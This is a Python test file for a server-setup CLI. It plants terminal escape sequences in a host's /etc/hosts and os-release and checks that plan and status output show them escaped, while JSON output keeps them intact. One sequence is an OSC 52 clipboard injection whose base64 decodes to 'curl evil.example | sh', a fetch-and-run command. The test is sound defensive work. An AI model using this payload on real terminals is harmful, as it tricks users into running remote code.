"""Escape sequences in the server's files reach the terminal made visible, and JSON exact.

On a fresh host, an OSC 0 (window title) and an OSC 52 (clipboard) sequence go into /etc/hosts,
which the base step rewrites (so its diff shows them), and into os-release's PRETTY_NAME, which
`status` prints. The CLI runs as a process, the way a terminal would receive its output.
"""

from __future__ import annotations

import json
import shlex

import pytest

from tests.host.harness import REPO

pytestmark = pytest.mark.host
QUICK = REPO / "tests" / "host" / "quick.toml"

TITLE = "\x1b]0;vps-wizard was here\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE_SHOWN = "\\x1b]0;vps-wizard was here\\x07"
CLIPBOARD_SHOWN = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"
HOSTS_LINE = f"192.0.2.99\tevil.example # {TITLE}{CLIPBOARD}"
PRETTY = f"Debian GNU/Linux 12 (bookworm) {TITLE}{CLIPBOARD}"


def assert_no_raw_control(*outputs: str) -> None:
    """No ESC and no BEL: nothing the terminal would take as the start or end of a sequence."""
    for output in outputs:
        assert "\x1b" not in output, output
        assert "\x07" not in output, output


def plant_sequences(host) -> None:
    """The sequences in /etc/hosts and in PRETTY_NAME (os-release made a file of its own)."""
    host.exec("cat >> /etc/hosts", input=HOSTS_LINE + "\n")
    release = host.exec("cat /etc/os-release").stdout
    lines = [line for line in release.splitlines() if not line.startswith("PRETTY_NAME=")]
    lines.append(f'PRETTY_NAME="{PRETTY}"')
    host.exec("rm -f /etc/os-release && cat > /etc/os-release", input="\n".join(lines) + "\n")
    assert TITLE in host.exec(f"grep {shlex.quote('PRETTY_NAME')} /etc/os-release").stdout


def test_plan_and_status_show_server_sequences_visibly_and_json_keeps_them(
    fresh_testhost, wizard_factory
):
    host = fresh_testhost
    wizard = wizard_factory(host)
    wizard.trust_host()
    plant_sequences(host)
    target = f"root@{host.address}"

    plan = wizard.cli("plan", target, "--answers", str(QUICK), "--step", "base")
    assert plan.returncode == 2, plan.stdout + plan.stderr
    assert_no_raw_control(plan.stdout, plan.stderr)
    assert f"-192.0.2.99\tevil.example # {TITLE_SHOWN}{CLIPBOARD_SHOWN}\n" in plan.stdout

    plan_json = wizard.cli("plan", target, "--answers", str(QUICK), "--step", "base", "--json")
    assert plan_json.returncode == 2, plan_json.stderr
    assert_no_raw_control(plan_json.stdout, plan_json.stderr)
    [base] = json.loads(plan_json.stdout)
    hosts = next(f for f in base["files"] if f["path"] == "/etc/hosts")
    assert f"-{HOSTS_LINE}\n" in hosts["diff"]

    status = wizard.cli("status", target)
    assert status.returncode == 0, status.stdout + status.stderr
    assert_no_raw_control(status.stdout, status.stderr)
    assert f"Debian GNU/Linux 12 (bookworm) {TITLE_SHOWN}{CLIPBOARD_SHOWN}" in status.stdout

    status_json = wizard.cli("status", target, "--json")
    assert status_json.returncode == 0, status_json.stderr
    assert_no_raw_control(status_json.stdout, status_json.stderr)
    assert json.loads(status_json.stdout)["os"] == PRETTY
